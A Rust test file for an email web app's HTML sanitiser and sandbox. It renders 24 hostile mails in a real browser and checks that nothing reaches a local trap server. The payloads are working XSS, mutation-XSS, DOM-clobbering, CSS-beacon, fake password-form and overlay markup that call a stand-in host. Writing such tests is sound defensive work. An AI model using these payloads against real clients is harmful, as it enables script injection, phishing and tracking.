//! Hostile HTML through the real pages in a real browser: no script runs, nothing is asked of anybody, nothing covers the desk.

use std::net::SocketAddr;
use std::path::Path;

use axum::Router;
use axum::response::{Html, IntoResponse};
use axum::routing::get;
use channels::email::{RemoteImages, Shown};
use server::permission::Role;
use server::workspace::mails::FRAMED;

use super::letters::{Post, letter};
use super::trap::Trap;
use crate::browser::{Browser, Look, SCREENS, Screen};

/// What hostile mails are made of; `TRAP` is where they want to go.
const MAILS: [(&str, &str); 24] = [
    (
        "script",
        "<script>fetch('TRAP/script');top.document.title='owned'</script><script src=TRAP/script.js></script>",
    ),
    (
        "handlers",
        "<img src=x onerror=\"fetch('TRAP/onerror')\"><body onload=\"fetch('TRAP/onload')\"><p onmouseover=alert(1)>over</p>",
    ),
    (
        "style-url",
        "<p style=\"background:url(TRAP/style);list-style-image:url('TRAP/list');content:url(TRAP/content)\">a</p>",
    ),
    (
        "style-sheet",
        "<style>@import 'TRAP/import.css';body{background:url(TRAP/body)}@font-face{font-family:x;src:url(TRAP/font)}*{font-family:x}</style><link rel=stylesheet href=TRAP/link.css><p>a</p>",
    ),
    (
        "links-ahead",
        "<link rel=prefetch href=TRAP/prefetch><link rel=preconnect href=TRAP><link rel=dns-prefetch href=TRAP><link rel=icon href=TRAP/icon><p>a</p>",
    ),
    (
        "refresh",
        "<meta http-equiv=refresh content=\"0;url=TRAP/refresh\"><meta http-equiv=\"Content-Security-Policy\" content=\"default-src *\"><p>a</p>",
    ),
    ("base", "<base href=\"TRAP/\" target=_top><img src=base.gif><a href=base.html>a</a>"),
    (
        "form",
        "<form id=f action=\"TRAP/form\" method=post><input name=password autofocus><button>Sign in again</button></form><input form=f type=submit formaction=TRAP/two>",
    ),
    (
        "svg",
        "<svg onload=\"fetch('TRAP/svg')\"><image href=\"TRAP/image\"/><use href=\"TRAP/use#a\"/><foreignObject><iframe src=TRAP/foreign></iframe></foreignObject><animate onbegin=alert(1)></svg>",
    ),
    (
        "data-urls",
        "<a href=\"data:text/html,<script>fetch('TRAP/data')</script>\">a</a><iframe src=\"data:text/html,<img src=TRAP/frame>\"></iframe><img src=\"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg'><image href='TRAP/svg'/></svg>\">",
    ),
    (
        "frames",
        "<iframe src=TRAP/frame></iframe><iframe srcdoc=\"<img src=TRAP/srcdoc>\"></iframe><object data=TRAP/object></object><embed src=TRAP/embed><frameset><frame src=TRAP/frameset></frameset><portal src=TRAP/portal></portal>",
    ),
    (
        "overlay",
        "<div style=\"position:fixed;inset:0;top:0;left:0;width:100vw;height:100vh;background:red;z-index:2147483647\">Your session has ended</div><div style=\"position:absolute;top:-500px;left:-500px;width:3000px;height:3000px;background:red\">a</div><p style=\"margin:-900px;transform:scale(90)\">b</p>",
    ),
    (
        "pictures",
        "<img src=TRAP/img><img srcset=\"TRAP/srcset 1x\"><picture><source srcset=TRAP/source><img></picture><video poster=TRAP/poster src=TRAP/video autoplay></video><audio src=TRAP/audio autoplay></audio><input type=image src=TRAP/input><table background=TRAP/table><tr><td background=TRAP/cell>a</table><img lowsrc=TRAP/lowsrc dynsrc=TRAP/dynsrc longdesc=TRAP/longdesc>",
    ),
    (
        "pings",
        "<a href=\"https://example.invalid\" ping=\"TRAP/ping\" target=_top>a</a><a href=\"TRAP/link\" download>b</a><blockquote cite=TRAP/cite>c</blockquote>",
    ),
    (
        "javascript",
        "<a href=\"javascript:fetch('TRAP/js')\">a</a><a href=\" &#106;avascript:alert(1)\">b</a><iframe src=\"javascript:fetch('TRAP/js')\"></iframe>",
    ),
    (
        "unclosed",
        "<div><table><tr><td><b><i><a href=\"TRAP/x\"><p><ul><li><blockquote><!-- <![CDATA[ <title><textarea><p>lost",
    ),
    (
        "closing",
        "</div></body></html></iframe><script>alert(1)</script></noscript></template><plaintext><img src=TRAP/plain>",
    ),
    (
        "mutation",
        "<form><math><mtext></form><form><mglyph><style></math><img src onerror=\"fetch('TRAP/mutation')\"><noscript><p title=\"</noscript><img src=TRAP/noscript>\">",
    ),
    (
        "clobber",
        "<img name=getElementById><form id=body><input name=last_seen id=last-seen></form><a id=messages href=TRAP/clobber>a</a><div id=toasts hx-get=TRAP/htmx hx-trigger=load>b</div>",
    ),
    ("wide-table", "<table width=90000><tr>CELLS</tr></table>"),
    ("tall-table", "<table>ROWS</table>"),
    ("one-line", "<p>LINE</p>"),
    ("deep", "DEEP"),
    (
        "words",
        "<p dir=rtl>\u{202e}gpj.exe\u{202c} \u{200b}\u{feff}</p><p style=\"font-size:4000px;line-height:9999px\">huge</p><p style=\"width:1e9px;height:1e9px\">far</p>",
    ),
];

fn written(body: &str, trap: &Trap) -> String {
    body.replace("CELLS", &"<td width=900>wide</td>".repeat(100))
        .replace("ROWS", &"<tr><td>a</td><td>b</td></tr>".repeat(4_000))
        .replace("LINE", &"hums ".repeat(200_000))
        .replace("DEEP", &"<div><b>".repeat(20_000))
        .replace("TRAP", &format!("http://127.0.0.1:{}", trap.port))
}

/// A router on a port of this machine.
async fn listen(router: Router) -> SocketAddr {
    let socket = tokio::net::TcpListener::bind(("127.0.0.1", 0)).await.expect("a free port");
    let address = socket.local_addr().expect("it is bound");
    tokio::spawn(async move { axum::serve(socket, router).await });
    address
}

/// What a browser is asked, while the server goes on answering.
async fn in_browser<T: Send + 'static>(look: impl FnOnce(&Browser) -> T + Send + 'static) -> Option<T> {
    let look = move || Browser::start().map(|browser| look(&browser));
    tokio::task::spawn_blocking(look).await.expect("nothing breaks")
}

/// That the page is still ours, in its words and in its places.
fn is_ours(browser: &Browser, name: &str) {
    assert_ne!(browser.run("return document.title"), "owned", "{name}");
    let top = browser.run(
        "return [...document.querySelectorAll('.ws-head h1, .composer button[type=submit]')].filter(it => it.checkVisibility()).map(it => { const box = it.getBoundingClientRect();
         const at = document.elementFromPoint(box.x + box.width / 2, box.y + box.height / 2); return !!at && (it.contains(at) || at.contains(it)); })",
    );
    let places = top.as_array().expect("places");
    assert!(places.len() >= 2 && places.iter().all(|it| it == true), "{name}: {top}");
    let complaints = browser.complaints();
    assert!(complaints.is_empty(), "{name}: {complaints:?}");
}

#[tokio::test(flavor = "multi_thread")]
async fn no_hostile_mail_runs_asks_or_covers_anything() {
    let (trap, post) = (Trap::start().await, Post::new().await);
    for (name, body) in MAILS {
        let kind = "MIME-Version: 1.0\r\nContent-Type: text/html; charset=utf-8\r\n";
        post.take(&letter(name, kind, &written(body, &trap))).await;
    }
    let n_cases = post.n_cases().await;
    assert_eq!(n_cases, MAILS.len(), "none is lost");
    let (secret, address) = (secret(&post).await, listen(post.app.router()).await);
    let looked = in_browser(move |browser| {
        browser.open(&format!("http://{address}/healthz"));
        browser.be(&secret);
        browser.complaints();
        for (nth, (name, _)) in MAILS.into_iter().enumerate() {
            browser.look_through(SCREENS[0]);
            browser.open(&format!("http://{address}/cases/{}", nth + 1));
            let sheets = "document.querySelectorAll('.sheet iframe')";
            // What is too long is shown as text all the same.
            browser.run("document.querySelectorAll('details.disclosure').forEach(it => it.open = true)");
            browser.wait_for(&format!("{sheets}.length === 1 && performance.getEntriesByType('resource').some(it => it.name.endsWith('/html'))"));
            std::thread::sleep(std::time::Duration::from_millis(150));
            is_ours(browser, name);
            let Some(folder) = std::env::var_os("LODESTAR_PICTURES") else { continue };
            for (screen, suffix) in [(SCREENS[0], "wide"), (SCREENS[1], "dark"), (SCREENS[3], "phone")] {
                browser.look_through(screen);
                browser.run("document.querySelector('.sheet').scrollIntoView({ block: 'center' })");
                browser.photograph(&Path::new(&folder).join(format!("mail-{name}-{suffix}.png")));
            }
        }
    });
    if looked.await.is_some() {
        assert_eq!(trap.heard(), [""; 0]);
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn a_sheet_keeps_nobody_out_and_asks_for_images_only_when_told_and_without_a_word_on_us() {
    let (trap, post) = (Trap::start().await, Post::new().await);
    let body = format!(
        "<h1>Offer</h1><p>Good day.</p><table><tr><td bgcolor=#eeeeee>Only now</td></tr></table><img alt=pixel src=\"https://127.0.0.1:{0}/asked\">\
         <img alt=other src=\"http://127.0.0.1:{0}/in-the-clear\">",
        trap.port
    );
    let kind = "MIME-Version: 1.0\r\nContent-Type: text/html; charset=utf-8\r\n";
    post.take(&letter("a", kind, &body)).await;
    let (secret, address) = (secret(&post).await, listen(post.app.router()).await);
    let heard = trap.clone();
    let looked = in_browser(move |browser| {
        browser.trust_anybody();
        browser.open(&format!("http://{address}/healthz"));
        browser.be(&secret);
        let case = format!("http://{address}/cases/1");
        let found = browser.check_on(&case, &SCREENS, Look::Everything);
        assert!(found.is_empty(), "{found:?}");
        let message = browser.run("return document.querySelector('.sheet iframe').getAttribute('src')");
        let page =
            format!("http://{address}{}", message.as_str().expect("a frame").trim_end_matches("/html"));
        let found = browser.check_on(&page, &SCREENS, Look::Everything);
        assert!(found.is_empty(), "{found:?}");
        assert_eq!(heard.heard(), [""; 0], "nobody asked");
        browser.look_through(Screen { width: 1440, height: 900, is_dark: false });
        browser.open(&case);
        browser.tab_to(".sheet a");
        browser.press(crate::browser::ENTER);
        browser.wait_for("document.querySelector('.sheet').innerText.includes('loaded for this view')");
        for _ in 0..100 {
            if !requests(&heard).is_empty() {
                break;
            }
            std::thread::sleep(std::time::Duration::from_millis(50));
        }
        // A patch of the conversation leaves the sheet as it is.
        browser.run("htmx.swap('#messages', document.querySelector('#messages').outerHTML.replace('images=1', ''), { swapStyle: 'outerHTML' })");
        browser.wait_for("document.querySelector('.sheet iframe').src.endsWith('images=1')");
        browser.complaints();
        browser.open(&case);
        browser.wait_for("document.querySelector('.sheet a')");
        let folder = std::env::var_os("LODESTAR_PICTURES")?;
        browser.photograph(&Path::new(&folder).join("mail-offer-wide.png"));
        Some(())
    });
    if looked.await.is_none() {
        return;
    }
    let heard = requests(&trap);
    // Nothing is asked for in the clear, but what the world beyond this machine has.
    assert_eq!(heard.len(), 1, "{heard:?}");
    let request = heard[0].to_lowercase();
    assert!(request.starts_with("get /asked"), "{request}");
    assert!(!request.contains("referer:") && !request.contains("cookie:"), "{request}");
}

/// What was asked for. A browser opens connections ahead, too, over which it asks nothing.
fn requests(trap: &Trap) -> Vec<String> {
    trap.heard().into_iter().filter(|it| it != "a connection").collect()
}

/// What would come through if nothing were cleaned: the second wall alone.
#[tokio::test(flavor = "multi_thread")]
async fn the_policy_holds_where_nothing_is_cleaned() {
    let trap = Trap::start().await;
    // No policy holds back a connection that is made ahead; that no such link comes through is the cleaning's alone.
    let left_out = ["deep", "unclosed", "one-line", "tall-table", "links-ahead"];
    let kept = MAILS.iter().filter(|(name, _)| !left_out.contains(name));
    let all: String = kept.map(|(_, body)| written(body, &trap)).collect();
    let page = Shown { html: all, n_blocked_images: 0 }.page(RemoteImages::Blocked);
    let policy = format!("{}; {FRAMED}", RemoteImages::Blocked.policy());
    let outer = "<!doctype html><title>ours</title><iframe src=/html sandbox=\"allow-popups allow-popups-to-escape-sandbox\"></iframe>";
    let sheet = move || async move { ([("content-security-policy", policy)], Html(page)).into_response() };
    let router = Router::new().route("/", get(move || async move { Html(outer) })).route("/html", get(sheet));
    let address = listen(router).await;
    let looked = in_browser(move |browser| {
        browser.open(&format!("http://{address}/"));
        std::thread::sleep(std::time::Duration::from_millis(700));
        assert_eq!(browser.run("return document.title + location.pathname + frames.length"), "ours/1");
    });
    if looked.await.is_some() {
        assert_eq!(requests(&trap), [""; 0]);
    }
}

async fn secret(post: &Post) -> String {
    post.app.cookie_of(Role::Agent).await.trim_start_matches("lodestar=").to_owned()
}
